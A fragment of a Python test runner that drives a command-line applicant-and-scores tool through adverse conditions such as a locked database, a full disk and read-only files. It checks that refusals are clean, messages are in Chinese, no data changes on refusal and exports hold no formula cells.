def hold_lock(db: Path, seconds: float):
    """A child process holding a write transaction on ``db`` for ``seconds``."""
    code = ("import sqlite3, sys, time; c = sqlite3.connect(sys.argv[1], isolation_level=None); "
            "c.execute('BEGIN IMMEDIATE'); print('held', flush=True); time.sleep(float(sys.argv[2]))")
    child = subprocess.Popen([sys.executable, "-c", code, str(db), str(seconds)], stdout=subprocess.PIPE)
    child.stdout.readline()
    return child


def run_case(case: Case, base: Path, work: Path, timeout: float, verbose: bool = False) -> list[str]:
    folder = work / re.sub(r"[^\w.-]+", "_", case.name)[:80]
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for rel, data in case.files.items():
        rel = rel.replace("{id}", _first_id(base))
        target = folder / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    if case.db == "none":
        db = None
    elif case.db == "copy":
        db = folder / "db.sqlite3"
        shutil.copy(base, db)
    elif case.db == "folder":
        db = folder / "dbfolder"
        db.mkdir()
    elif case.db == "readonly":
        db = folder / "db.sqlite3"
        shutil.copy(base, db)
    else:
        db = case.db
    if case.setup is not None and db is not None:
        case.setup(folder, db)
    before = digest(db) if isinstance(db, Path) and db.is_file() else None
    argv = [a.replace("{dir}", str(folder)) for a in case.argv]
    if (folder / "sheet.txt").exists():   # a setup chose the score sheet
        argv = [a.replace("{sheet}", (folder / "sheet.txt").read_text()) for a in argv]
    if case.db == "readonly":
        argv = ["--db", f"sqlite:///file:{db}?mode=ro&uri=true"] + argv
    env = {k: v.replace("{dir}", str(folder)) for k, v in case.env.items()}
    locker = None
    if env.pop("HOSTILE_LOCK", None):
        locker = hold_lock(db, timeout + 5)
    fsize = None
    if env.pop("HOSTILE_FULL", None):   # a full disk: no file may grow past a few KB more than the database
        fsize = db.stat().st_size + 8192
    try:
        status, out, err, seconds = run_cli(db, *argv, env=env, timeout=timeout, stdin=case.stdin, fsize=fsize)
    finally:
        if locker is not None:
            locker.kill()
            locker.wait()
        if isinstance(db, Path):
            for p in (db, db.parent):
                try:
                    p.chmod(0o700 if p.is_dir() else 0o600)
                except OSError:
                    pass
    problems = []
    if verbose:
        print(f"        [{status}] " + " | ".join((err or out).strip().splitlines()[-3:])[:300])
    if status is None:
        return [f"hung (> {timeout:.0f} s)"]
    text = out + err
    if "Traceback" in text:
        last = [line for line in err.strip().splitlines() if line.strip()][-1:] or ["?"]
        problems.append(f"traceback: {last[0][:160]}")
    if status < 0 or status > 2:
        problems.append(f"exit status {status}")
    if case.expect == "refuse" and status == 0:
        problems.append("accepted, should be refused")
    if case.expect == "accept" and status != 0:
        problems.append(f"refused, should be accepted: {err.strip()[:200]}")
    if status in (1, 2):
        if not CJK.search(err):
            problems.append(f"no Chinese in the message: {err.strip()[:160]!r}")
        if case.place and case.place not in err:
            problems.append(f"message does not name {case.place!r}: {err.strip()[:160]!r}")
        if before is not None and digest(db) != before and not case.db_may_change:
            problems.append("database changed on a refusal")
        for rel in case.outputs:
            if (folder / rel).exists():
                problems.append(f"{rel} left behind on a refusal")
    for rel in case.outputs:
        path = folder / rel
        if status == 0 and path.exists():
            found = formula_cells(path)
            if found:
                problems.append(f"formula in {rel}: {found}")
    for line in err.splitlines():
        if any(ord(ch) < 32 and ch not in "\t" for ch in line):
            problems.append("raw control character printed")
            break
    return problems


_FIRST_ID = {}


def _first_id(base: Path) -> str:
    if base not in _FIRST_ID:
        with sqlite3.connect(f"file:{base}?mode=ro", uri=True) as con:
            _FIRST_ID[base] = con.execute(
                "SELECT a.id_number FROM applicant a JOIN application p ON p.applicant_id=a.id "
                "WHERE p.batch_id=1 ORDER BY a.id LIMIT 1").fetchone()[0]
    return _FIRST_ID[base]


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", help="work folder (default: a temporary one)")
    parser.add_argument("--only", help="run the cases whose name contains this")
    parser.add_argument("--timeout", type=float, default=90)
    parser.add_argument("--keep", action="store_true", help="keep the work folder")
    parser.add_argument("--verbose", "-v", action="store_true", help="show each case's message")
    args = parser.parse_args(argv)
    work = Path(args.out or tempfile.mkdtemp(prefix="hostile-other-"))
    work.mkdir(parents=True, exist_ok=True)
    os.environ.setdefault("XDG_DATA_HOME", str(work / "data"))
    os.environ.setdefault("XDG_CONFIG_HOME", str(work / "config"))
    base = prepare(work)
    groups = [results_cases, enter_cases, resource_cases, photo_cases, lambda: database_cases(base),
              lambda: backup_cases(base), writer_cases, settings_cases]
    names = ["results", "scores", "resources", "photos", "database", "restore backup", "export template print-batch centre",
             "notice secret"]
    cases = []
    for group, words in zip(groups, names):
        if not args.only or any(args.only.split("/")[0] in w or w in args.only for w in words.split()):
            cases += group()
    if args.only:
        cases = [c for c in cases if args.only in c.name]
    failures = 0
    started = time.perf_counter()
    for case in cases:
        t = time.perf_counter()
        problems = run_case(case, base, work, args.timeout, args.verbose)
        mark = "FAIL" if problems else "ok  "
        print(f"{mark} {time.perf_counter() - t:6.1f}s  {case.name}", flush=True)
        for problem in problems:
            print(f"        {problem}", flush=True)
        failures += bool(problems)
    print(f"{len(cases)} cases, {failures} failing, {time.perf_counter() - started:.0f} s; work folder {work}")
    if not args.keep and not args.out:
        shutil.rmtree(work, ignore_errors=True)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
